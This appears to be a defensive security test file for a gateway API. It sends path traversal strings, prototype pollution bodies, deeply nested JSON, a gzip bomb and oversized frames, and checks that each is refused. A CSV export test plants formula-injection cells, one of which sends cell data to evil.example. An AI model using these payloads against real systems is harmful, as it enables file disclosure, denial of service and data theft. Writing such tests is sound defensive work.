import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { ALERTS_RPC, SESSIONS_RPC } from '@deckwatch/contracts';
import { anAlertMessage, aRule, describeWith } from '@deckwatch/testing';
import { useGateway } from '../fixture.ts';
import { callApi, type CallOptions } from '../rest-client.ts';

const folder = mkdtempSync(join(tmpdir(), 'deckwatch-attack-'));
mkdirSync(join(folder, 'console'));
writeFileSync(join(folder, 'console', 'index.html'), '<!doctype html>the console');
writeFileSync(join(folder, 'console', 'theme.js'), 'let a = 1;');
writeFileSync(join(folder, 'console', '.hidden'), 'SECRET of the server');
writeFileSync(join(folder, 'secret.txt'), 'SECRET of the server');
afterAll(() => rmSync(folder, { recursive: true }));

/** A request line as it stands, which no client would send. */
function raw(port: number, target: string): Promise<string> {
  return new Promise((resolve, reject) => {
    let answer = '';
    const socket = connect(port, '127.0.0.1', () => socket.write(`GET ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`)); // prettier-ignore
    socket.setEncoding('latin1');
    socket.on('data', (text: string) => (answer += text));
    socket.on('end', () => resolve(answer));
    socket.on('error', reject);
  });
}

describeWith('nats')('hostile requests', () => {
  const fixture = useGateway({ env: { DECKWATCH_CONSOLE_DIR: join(folder, 'console') } });
  const call = (method: string, path: string, options?: CallOptions) =>
    callApi(fixture.gateway.port, method, path, options);

  describe('that climb out of the folder (path traversal)', () => {
    it.each([
      '/../secret.txt',
      '/..%2fsecret.txt',
      '/%2e%2e/secret.txt',
      '/%2e%2e%2fsecret.txt',
      '/theme.js/../../secret.txt',
      '/theme.js%00/../secret.txt',
      '/..\\secret.txt',
      '/..%5csecret.txt',
      '/%252e%252e%252fsecret.txt',
      '//../secret.txt',
      '/./../secret.txt.br',
      `/${folder}/secret.txt`,
      '/.hidden',
      'http://127.0.0.1/../secret.txt',
      '/api/../../secret.txt',
      '/api/v1/containers/..%2f..%2fsecret/0123456789ab',
    ])('%s shows no file', async (target) => {
      const answer = await raw(fixture.gateway.port, target);
      expect(answer).toMatch(/^HTTP\/1\.1 (200|400|401|403|404) /);
      expect(answer).not.toContain('SECRET');
    });
  });

  describe('that reach for other subjects of the broker', () => {
    it.each(['*', '>', 'a.b', 'a.>', '$SYS', '_INBOX', '%0d%0aPUB x 0', '..%2f..'])(
      '%s in a path is a name like any other, or refused',
      async (name) => {
        for (const path of [
          `/containers/${name}/0123456789ab`,
          `/containers/alpha/${name}`,
          `/alert-rules/${name}`,
          `/containers/${name}/0123456789ab/history`,
        ])
          // prettier-ignore
          expect([400, 404, 503]).toContain((await call('GET', `/api/v1${encodeURI(path)}`)).status);
      },
    );

    it.each([
      'stats.*',
      'stats.>',
      'stats.alpha.*',
      '>',
      '*',
      'deckwatch.stats.alpha',
      '$SYS.>',
      'stats.alpha.0123456789ab.x',
    ])(
      // prettier-ignore
      'the topic %s is none',
      async (topic) => {
        const client = await fixture.open();
        const { topics, rejected } = await client.subscribe(topic);
        expect([topics, rejected]).toEqual([[], [expect.objectContaining({ code: 'unknown_topic' })]]);
      },
    );
  });

  describe('that change what all objects have (prototype pollution)', () => {
    const POLLUTION = '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}';
    const isClean = (): boolean => !('polluted' in {}) && !('polluted' in Object.create(Object.prototype));
    afterEach(() => expect(isClean()).toBe(true));

    it.each([
      ['POST', '/api/v1/auth/login', '"username":"x","password":"y"'],
      ['POST', '/api/v1/users', '"username":"polly","password":"a phrase of hers","role":"viewer"'],
      ['POST', '/api/v1/tokens', '"name":"x","role":"viewer"'],
      ['POST', '/api/v1/alert-rules', JSON.stringify(aRule()).slice(1, -1)],
      [
        'POST',
        '/api/v1/ingest/sessions',
        '"app":"shop","id":"s","op":"start","attrs":{"__proto__":{"polluted":"yes"}}',
      ],
      ['PUT', '/api/v1/flags/containerStats', '"value":true'],
    ])('%s %s with __proto__ and constructor', async (method, path, rest) => {
      const { body } = await call(method, path, { body: `${POLLUTION},${rest}}` });
      expect(JSON.stringify(body)).not.toContain('polluted');
    });

    it.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty'])('the name %s is nothing special', async (name) => {
      expect((await call('PUT', `/api/v1/flags/${name}`, { body: { value: true } })).status).toBe(404);
      expect((await call('PATCH', `/api/v1/users/${name}`, { body: { disabled: true } })).status).toBeGreaterThanOrEqual(400);
      expect((await call('GET', `/api/v1/containers?sort=${name}`)).status).toBe(400);
      expect((await call('GET', `/api/v1/containers?${name}[polluted]=yes&${name}.polluted=yes`)).status).toBe(200);
      const client = await fixture.open();
      expect((await client.subscribe(name))['rejected']).toMatchObject([{ code: 'unknown_topic' }]);
    }); // prettier-ignore

    it('a frame with __proto__ does as if it had none', async () => {
      const client = await fixture.open();
      client.socket.send(`{"event":"subscribe","__proto__":{"polluted":1},"data":{"id":7,"topics":["hosts"],"since":{"__proto__":{"epoch":"x","seq":1}},"__proto__":{"polluted":1}}}`); // prettier-ignore
      await client.next('subscribed', ({ id }) => id === 7);
    });
  });

  describe('that are huge or deep', () => {
    const deep = (levels: number, open = '[', close = ']'): string => open.repeat(levels) + close.repeat(levels);

    it.each([
      ['arrays', deep(100_000)],
      ['arrays that never end', '['.repeat(900_000)],
      ['objects', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
      ['an ingest item', `{"app":"x","id":"y","op":"start","attrs":${deep(200_000)}}`],
    ])('%s: refused, and the others are answered meanwhile', async (_, body) => {
      const flood = Promise.all(Array.from({ length: 20 }, () => call('POST', '/api/v1/ingest/sessions', { body })));
      const start = performance.now();
      expect((await call('GET', '/health/live')).status).toBe(200);
      expect(performance.now() - start).toBeLessThan(2000);
      expect(new Set((await flood).map(({ status }) => status))).toEqual(new Set([400]));
    });

    it.each([
      ['a long body', '/api/v1/ingest/sessions', ' '.repeat(1_100_000)],
      ['a long body of somebody unknown', '/api/v1/auth/login', `{"username":"${'x'.repeat(9000)}"}`],
    ])('%s: 413', async (_, path, body) => {
      expect((await call('POST', path, { body })).status).toBe(413);
    });

    it('one that unpacks to more than it may: 413, without unpacking it', async () => {
      const body = gzipSync(Buffer.alloc(64 * 1024 * 1024, ' '));
      const before = process.memoryUsage().arrayBuffers;
      expect((await call('POST', '/api/v1/ingest/sessions', { body, headers: { 'content-encoding': 'gzip' } })).status).toBe(413); // prettier-ignore
      expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(16 * 1024 * 1024);
    });

    it('another encoding than UTF-8: 415', async () => {
      const headers = { 'content-type': 'application/json; charset=utf-16' };
      const body = Buffer.from('\ufeff{"value":true}', 'utf16le');
      expect((await call('PUT', '/api/v1/flags/containerStats', { body, headers })).status).toBe(415);
    });

    it('more items than a request may have: 400', async () => {
      const body = Array.from({ length: 1001 }, (_, n) => ({ app: 'x', id: String(n), op: 'start' }));
      expect((await call('POST', '/api/v1/ingest/sessions', { body })).status).toBe(400);
    });

    it('a frame that is deep, or too big: its connection alone hears of it', async () => {
      const [attacker, other] = [await fixture.open(), await fixture.open()];
      await other.subscribe('system');
      attacker.socket.send(`{"event":"subscribe","data":{"id":1,"topics":${deep(30_000)}}}`);
      await attacker.next('error', ({ code }) => code === 'bad_request');
      attacker.socket.send('x'.repeat(65 * 1024));
      expect(await attacker.ended()).toBe(1009);
      other.send('ping', {});
      await other.next('pong');
      expect(other.closed).toBeUndefined();
    });
  });

  it('make a spreadsheet run what somebody wrote (CSV injection): it stands there as text', async () => {
    const formula = '=HYPERLINK("http://evil.example?"&A1,"x")';
    const session = { app: 'shop', id: '@SUM(1)', user: formula, attrs: { note: '+1;=2' }, createdAt: 1, lastSeenAt: 1, expiresAt: null }; // prettier-ignore
    const { bus } = fixture;
    const served = [
      bus.serve('sessions', SESSIONS_RPC, { list: () => ({ items: [session], nextCursor: null, total: 1 }) } as never),
      bus.serve('alerts', ALERTS_RPC, { history: () => ({ items: [anAlertMessage({ message: '-2+3|cmd', rule: { id: 'x', name: '\t=1' } })], nextCursor: null, total: 1 }) } as never), // prettier-ignore
    ];
    await bus.flush();
    for (const path of ['/export/sessions.csv', '/export/alerts.csv']) {
      const { status, body, headers } = await call('GET', `/api/v1${path}`);
      expect([status, headers['content-disposition']]).toEqual([200, expect.stringContaining('attachment')]);
      expect(String(body).split('\r\n').length).toBeGreaterThan(2);
      const cells = Array.from(String(body).matchAll(/(?<=^|,)("(?:[^"]|"")*"|[^,\r\n]*)/gm), ([, cell]) => cell!);
      expect(cells.length).toBeGreaterThan(10);
      expect(cells.filter((cell) => /^"?[=+@\t-]/.test(cell))).toEqual([]);
    }
    for (const service of served) service.unsubscribe();
  });
});
